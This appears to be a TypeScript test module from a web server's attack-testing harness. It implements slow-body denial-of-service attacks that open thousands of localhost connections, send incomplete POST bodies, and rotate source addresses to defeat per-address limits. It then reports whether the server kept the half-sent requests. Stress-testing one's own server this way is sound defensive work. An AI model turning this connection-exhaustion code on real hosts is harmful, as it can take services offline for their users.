import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { postHead } from '../../server/raw-connection.ts';
import { addresses, AnswerCount, type Attack, type AttackOutcome, type Target } from '../attack.types.ts';

/** Descriptors of this process that are not for the attack. */
const spareDescriptors = 1_000;
const head = `${postHead(100_000)}0123456789`;
/** Connections that begin at the same moment. */
const atOnce = 200;

/** Bodies that do not come, from one address. */
export const slowBodies: Attack = { name: 'slow-bodies', run: (target) => attack(target, () => addresses.attacker) };

/** The same from thousands of addresses, so that no limit per address helps. */
export const slowBodiesFromEverywhere: Attack = {
  name: 'slow-bodies-from-everywhere',
  run: (target) => attack(target, (index) => `127.1.${index % 200}.${1 + (Math.floor(index / 200) % 200)}`),
};

async function attack({ site, size }: Target, addressOf: (index: number) => string): Promise<AttackOutcome> {
  const count = size === 'full' ? Math.min(22_000, descriptorLimit() - spareDescriptors) : 2_000;
  const holdMs = size === 'full' ? 60_000 : 3_000;
  const port = Number(new URL(site.url).port);
  const answers = new AnswerCount();
  const open = new Set<Socket>();
  for (let index = 0; index < count; index += 1) {
    const socket = connect({ host: '127.0.0.1', port, localAddress: addressOf(index) });
    open.add(socket);
    socket.once('data', (data) => answers.add(/\d{3}/.exec(data.toString('latin1'))?.[0] ?? 'other'));
    socket.on('error', () => socket.destroy());
    socket.once('close', () => open.delete(socket));
    socket.write(head);
    if (index % atOnce === atOnce - 1) await sleep(10);
  }
  await sleep(holdMs);
  const held = open.size;
  answers.add('still open', held);
  for (const socket of open) socket.destroy();
  // Small: shorter than the patience for bodies, so only what is over the limit is closed.
  const isHeld = size === 'full' ? held > 0 : held === count;
  const weakness = isHeld ? `${held} connections without a complete request were kept` : null;
  return { answers: answers.all(), weakness };
}

function descriptorLimit(): number {
  return Number(/^Max open files +(\d+)/m.exec(readFileSync('/proc/self/limits', 'utf8'))?.[1] ?? 1_024);
}
